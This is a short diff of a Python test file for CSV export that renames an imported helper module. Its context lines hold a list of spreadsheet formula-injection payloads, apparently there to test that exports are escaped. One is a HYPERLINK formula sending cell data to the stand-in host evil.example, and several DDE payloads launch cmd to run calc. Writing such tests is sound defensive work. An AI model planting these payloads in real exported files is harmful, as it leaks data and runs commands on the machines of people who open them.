@@ -11,7 +11,7 @@ import csv
 import pandas as pd
 import pytest
 
-from test_export_fixtures import FEATURES, export_late, score_py, summary_of
+from export_helpers import FEATURES, export_late, score_py, summary_of
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
